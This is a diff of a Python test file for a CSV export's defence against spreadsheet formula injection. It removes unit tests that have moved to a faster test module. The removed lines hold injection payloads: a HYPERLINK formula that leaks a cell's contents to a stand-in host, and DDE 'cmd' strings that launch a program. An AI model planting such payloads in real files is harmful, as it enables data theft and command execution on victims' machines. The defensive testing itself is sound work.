@@ -1,103 +1,19 @@
-"""Export cells cannot carry formulas: every cell of the CSV export that a spreadsheet would
-evaluate is neutralized (OWASP "CSV Injection"), in every column, also when the file is
-opened with another separator; safe values and plain numbers are left as they are.
-
-The oracle is the OWASP rule restated here, not the export's own code: a cell is live when,
-after the spaces a spreadsheet may trim, it starts with = + - @ (or their full-width forms),
-a tab or a carriage return, unless it is a plain number. "-5" is a plain number: a spreadsheet
-reads it as minus five and evaluates nothing, and a negative amount must stay a number.
-"""
+"""The CSV export, as owner and partner download it, has no live cell whichever separator a
+spreadsheet reads, and neutralizing touches the file only, not the records. The rule (`live`)
+and the cell function are tested without services in tests/fast/test_export_formulas.py."""
 
 import csv
 import io
 import json
-import re
 
 import pytest
 
-from intel.exports import spreadsheet_safe
 from intel.importing import import_file
 from intel.models import Record
 from sharing import services
 from sharing.models import Agreement
+from tests.fast.test_export_formulas import live
 from tests.sharing_helpers import in_force, staff
-
-TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
-NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")
-
-
-def live(cell: str) -> bool:
-    trimmed = cell.lstrip(" ")
-    return trimmed.startswith(TRIGGERS) and not NUMBER.fullmatch(trimmed.strip())
-
-
-DANGEROUS = [
-    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "+cmd|' /C calc'!A0",
-    "-1+1",
-    "-2+3+cmd|' /C calc'!A0",
-    "=1+1",
-    "\t=1+1",
-    "\r=1+1",
-    " =1+1",
-    "\uff1d1+1",  # full-width equals sign
-    "\uff20SUM(1)",
-    '"=1+1"',
-    "-",
-]
-SAFE = [
-    "Frozen fish declared under-value",
-    "ACME Trading Ltd.",
-    "x=1+1",
-    "e-mail: info@acme.example",
-    "-5",
-    "-5.25",
-    "+31",
-    "42",
-    "",
-    "'=already text",
-]
-
-
-@pytest.mark.parametrize("value", DANGEROUS)
-def test_a_cell_starting_a_formula_is_neutralized_and_keeps_its_text(value):
-    cell = spreadsheet_safe(value)
-    assert not live(cell), repr(cell)
-    assert cell.startswith("'") or cell.lstrip(' "').startswith("'"), repr(cell)
-    # Only apostrophes are added; the text itself is all there.
-    assert cell.replace("'", "") == value.replace("'", "")
-
-
-@pytest.mark.parametrize(
-    ("value", "expected"),
-    [
-        ("=1+1", "'=1+1"),
-        ("@SUM(1+1)", "'@SUM(1+1)"),
-        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
-        ("-1+1", "'-1+1"),
-    ],
-)
-def test_the_owasp_cases_get_a_leading_apostrophe(value, expected):
-    assert spreadsheet_safe(value) == expected
-
-
-@pytest.mark.parametrize("value", SAFE)
-def test_safe_values_and_plain_numbers_are_unchanged(value):
-    assert spreadsheet_safe(value) == value
-
-
-@pytest.mark.parametrize("separator", [";", "\t", "\n", "\r\n"])
-def test_a_formula_after_another_separator_cannot_start_a_cell_either(separator):
-    """A spreadsheet in a semicolon or tab locale splits the value there, and a line break
-    can end the row for a reader that lost track of the quotes."""
-    value = f'Frozen fish{separator}=HYPERLINK("http://evil.example"){separator}@SUM(1){separator}-5'
-    cell = spreadsheet_safe(value)
-    pieces = re.split(r"[;\t\r\n]", cell)
-    assert [piece for piece in pieces if live(piece)] == [], repr(cell)
-    assert pieces[0] == "Frozen fish" and pieces[-1] == "-5"
-    assert cell.replace("'", "") == value.replace("'", "")
-
 
 # Values an importing agency states, one per free-text column the export carries: in the
 # record's own columns (external_ref, summary), in the JSON of its mentions (entity names
